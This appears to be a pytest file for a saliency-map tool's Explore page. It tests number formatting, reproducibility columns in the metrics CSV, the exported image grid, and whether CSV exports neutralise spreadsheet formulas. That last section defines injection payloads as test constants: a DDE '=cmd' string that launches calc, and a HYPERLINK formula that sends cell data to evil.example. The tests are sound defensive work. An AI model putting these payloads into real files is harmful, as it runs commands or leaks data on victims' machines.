"""What the Explore page shows and exports: metric cells, the metrics CSV, the grid PNG."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pandas as pd
import pytest

from saliency_core import pipeline
from saliency_core.data import csvfiles
from saliency_core.scoring import agreement
from ui import tables


def test_undefined_cells_read_n_a_and_no_value_prints_negative_zero():
    assert tables.format_value(float("nan")) == "n/a"
    assert tables.format_value(None) == "n/a"
    assert tables.format_value(-0.0004) == "0.000"
    assert tables.format_value(-0.0) == "0.000"
    assert tables.format_value(-0.0006) == "-0.001"
    assert tables.format_value(0.12345) == "0.123"
    long = pd.DataFrame(
        [
            ["cam", "fixations", "IG", -0.0002, True, None],
            ["cam", "fixations", "sAUC", float("nan"), True, "no other fixations"],
        ],
        columns=agreement.COLUMNS,
    )
    summary = agreement.widen(long)
    shown, formats = tables.numbers(summary.table)
    assert shown["sAUC"].tolist() == ["n/a"] and formats == {"IG": "%.3f"}
    assert [formats["IG"] % value for value in shown["IG"]] == ["0.000"]  # never "-0.000"
    assert summary.notes == ["cam vs fixations, sAUC: no other fixations"]


def test_the_metrics_csv_keeps_nan_with_its_reason_and_no_negative_zero():
    table = pd.DataFrame(
        {
            "map": ["a", "a", "a"],
            "metric": ["IG", "sAUC", "CC"],
            "value": [-0.0, float("nan"), 0.25],
            "reason": [None, "no other fixations", None],
        }
    )
    text = pipeline.csv_text(table)
    assert "-0" not in text
    back = pd.read_csv(io.StringIO(text))
    assert back["value"].iloc[0] == 0.0 and not np.signbit(back["value"].iloc[0])
    assert np.isnan(back["value"].iloc[1]) and back["reason"].iloc[1] == "no other fixations"
    assert back["value"].iloc[2] == 0.25 and pd.isna(back["reason"].iloc[2])
    assert "a,sAUC,NaN,no other fixations" in text


def test_every_metrics_row_records_how_to_reproduce_it():
    from saliency_core.data.fixations import default_sigma
    from saliency_core.data.images import Sample
    from saliency_core.settings import Settings

    rng = np.random.default_rng(0)
    image = rng.integers(0, 255, (60, 80, 3), dtype=np.uint8)
    sample = Sample(id="004", image=image, source="My set", fixations=np.array([[10.0, 20.0]]))
    settings = Settings(
        detectors=(),
        type2=("Spectral residual", "Centre bias (Gaussian)"),
        references=("fixations",),
        top_percent=15.0,
        ties="include",
        score_threshold=0.5,
        working_size=64,
    )
    bundle = pipeline.compute_bundle(pipeline.prepare_sample(sample, settings), settings)
    table = pipeline.metrics_table(bundle).assign(**pipeline.reproduction_columns(bundle))
    back = pd.read_csv(io.StringIO(pipeline.csv_text(table)))
    assert len(back) == len(table) > 0
    row = back.iloc[0]
    assert (row["dataset"], str(row["image"]).zfill(3)) == ("My set", "004")
    assert (row["detector_weights"], row["type2_weights"]) == ("untrained", "untrained")
    assert row["score_threshold"] == 0.5 and row["ties"] == "include"
    assert row["working_size"] == "64x64"
    assert row["sigma_px"] == pytest.approx(default_sigma((64, 64)), abs=1e-3)  # 64/30 px
    assert set(back["top_percent"].dropna()) == {15.0}
    assert {"kind", "method", "trained", "reason"} <= set(back.columns)
    assert Settings.from_dict(json.loads(row["settings_json"])) == settings


def _drawn(text: str, size: int = 18) -> np.ndarray:
    from PIL import Image, ImageDraw

    from saliency_core import viz

    image = Image.new("L", (48, 32), 0)
    ImageDraw.Draw(image).text((2, 2), text, fill=255, font=viz._font(size))
    return np.asarray(image)


def test_the_grid_font_has_the_greater_or_equal_sign():
    assert _drawn("≥").any()
    assert (_drawn("≥") != _drawn("\uffff")).any(), "≥ is drawn as the missing-glyph box"


def test_the_exported_grid_has_a_title_a_legend_and_colour_bars():
    from saliency_core import viz

    panels = [("a ≥ 0.90", np.full((30, 40, 3), 128, np.uint8))] * 2
    plain = viz.grid_figure(panels, tile=160)
    full = viz.grid_figure(
        panels,
        tile=160,
        title="004 · top 10% of pixels",
        legend=True,
        colorbars={"maps (jet)": "jet", "references (inferno)": "inferno"},
    )
    assert full.shape[1] == plain.shape[1]
    assert full.shape[0] == plain.shape[0] + 34 + 28 + 2 * 44  # title, legend, two bars
    header = full[:34]
    assert (header < 100).any(), "the title is drawn"
    footer = full[plain.shape[0] + 34 :]
    for name, colour in viz.AGREEMENT_COLOURS.items():
        hits = np.all(footer == colour.astype(np.uint8), axis=-1)
        assert hits.sum() >= 15 * 15, f"no legend swatch for {name}"
    jet_start = viz.colorize(np.zeros((1, 1)), "jet")[0, 0]
    inferno_end = viz.colorize(np.ones((1, 1)), "inferno")[0, 0]
    assert np.all(footer == jet_start, axis=-1).sum() >= 12, "the jet bar starts at 0"
    assert np.all(footer == inferno_end, axis=-1).sum() >= 12, "the inferno bar ends at 1"
    assert len(viz.png_bytes(full)) > len(viz.png_bytes(plain))


def test_columns_with_undefined_values_are_shown_as_text_not_none():
    """Streamlit's grid draws a null as "None" whatever the Styler says: such columns go as text."""
    import pandas as pd

    frame = pd.DataFrame({"map": ["a", "b"], "MAE": [0.25, float("nan")], "IG": [-0.0001, 1.5]})
    shown = tables.readable(frame)
    assert shown["MAE"].tolist() == ["0.250", "n/a"]
    assert pd.api.types.is_float_dtype(shown["IG"]), "a complete column keeps sorting as numbers"
    html = tables.styled(frame, ["MAE", "IG"]).to_html()
    assert "n/a" in html and "0.000" in html and "-0.000" not in html and "None" not in html
    counts = tables.styled(pd.DataFrame({"arm": ["none"], "n_seeds": [3], "map": [0.25]}))
    html = counts.to_html()
    assert ">3<" in html and ">0.250<" in html and "3.000" not in html  # counts stay whole


def test_numbers_keep_values_whole_and_format_only_float_columns():
    frame = pd.DataFrame(
        {"map": ["a", "b"], "MAE": [0.25, float("nan")], "IG": [-0.0004, -0.0006], "n": [3, 4]}
    )
    shown, formats = tables.numbers(frame)
    assert formats == {"IG": "%.3f"}  # MAE holds a NaN: text; n: a count
    assert shown["MAE"].tolist() == ["0.250", "n/a"] and shown["n"].tolist() == [3, 4]
    assert shown["IG"].tolist() == [0.0, -0.0006], "only a value that rounds to zero changes"
    assert [formats["IG"] % v for v in shown["IG"]] == ["0.000", "-0.001"]
    assert frame["IG"].tolist() == [-0.0004, -0.0006], "the caller's frame is left alone"
    assert tables.numbers(frame, ["MAE"])[1] == {}


# --- every CSV the project writes: cells a spreadsheet would run are neutralised -------------

CALC = "=cmd|' /C calc'!A0"
LINK = '+HYPERLINK("http://evil.example/?"&A1,"click")'
STEM = "=cmd|calc"


def raw_rows(text: str) -> list[list[str]]:
    """The cells exactly as a spreadsheet reads them from CSV text."""
    return list(csv.reader(io.StringIO(text)))


def test_formula_cells_get_a_quote_numbers_do_not_and_reading_restores_them():
    written = {
        CALC: "'" + CALC,
        LINK: "'" + LINK,
        STEM: "'" + STEM,
        "-2+3": "'-2+3",
        "@SUM(A1:A9)": "'@SUM(A1:A9)",
        "\t=1": "'\t=1",
        "\r=1": "'\r=1",
        "'quoted": "''quoted",  # one more quote, so reading gives back exactly the text
        "-0.5": "-0.5",
        "+3": "+3",
        "-1e-3": "-1e-3",
        "a=b": "a=b",
        "plain": "plain",
    }
    for cell, safe in written.items():
        assert csvfiles.neutralise(cell) == safe, cell
        assert csvfiles.restore(safe) == cell
    assert csvfiles.neutralise(-1.5) == -1.5 and csvfiles.neutralise(None) is None


def test_the_explore_metrics_csv_neutralises_formulas_and_keeps_negative_numbers():
    table = pd.DataFrame(
        {
            "image": [STEM, STEM],
            "map": ["a", "a"],
            "metric": ["CC", "IG"],
            "value": [-0.25, float("nan")],
            "reason": [None, LINK],
            "dataset": [CALC, CALC],
        }
    )
    text = pipeline.csv_text(table)
    header, first, second = raw_rows(text)
    assert header == ["image", "map", "metric", "value", "reason", "dataset"]
    assert first == ["'" + STEM, "a", "CC", "-0.25", "", "'" + CALC]
    assert second == ["'" + STEM, "a", "IG", "NaN", "'" + LINK, "'" + CALC]
    back = csvfiles.read_csv(io.StringIO(text))
    assert back["image"].tolist() == [STEM, STEM] and back["reason"].iloc[1] == LINK
    assert back["value"].iloc[0] == -0.25  # a real number stays a number


def test_metrics_errors_summary_and_tags_csv_are_neutralised_parquet_exact(tmp_path):
    from saliency_core.evaluate.store import ResultsFolder

    folder = ResultsFolder(tmp_path)
    table = pd.DataFrame({"image": [STEM, "b"], "metric": ["CC", "CC"], "value": [-0.5, 0.25]})
    folder.write_tables(table, pd.DataFrame({"image": [STEM], "iou": [0.1]}))
    metrics_csv = raw_rows((tmp_path / "metrics.csv").read_text())
    assert metrics_csv == [
        ["image", "metric", "value"],
        ["'" + STEM, "CC", "-0.5"],
        ["b", "CC", "0.25"],
    ]
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "metrics.parquet"), table)
    folder.write_errors({STEM: LINK})
    assert raw_rows((tmp_path / "errors.csv").read_text())[1] == ["'" + STEM, "'" + LINK]
    assert folder.errors().values.tolist() == [[STEM, LINK]]
    folder.write_summary(pd.DataFrame({"map": [CALC], "mean": [-1.0]}), "")
    assert raw_rows((tmp_path / "summary.csv").read_text())[1] == ["'" + CALC, "-1.0"]
    folder.set_tags(STEM, CALC)
    folder.set_tags("b", LINK)
    assert raw_rows((tmp_path / "tags.csv").read_text()) == [
        ["image", "tags"],
        ["'" + STEM, "'" + CALC],
        ["b", "'" + LINK],
    ]
    assert folder.tags().values.tolist() == [[STEM, CALC], ["b", LINK]]
    notices = folder.write_notices([CALC])
    assert raw_rows((tmp_path / "notices.csv").read_text())[1] == ["(dataset)", "'" + CALC]
    assert notices.values.tolist() == [["(dataset)", CALC]]
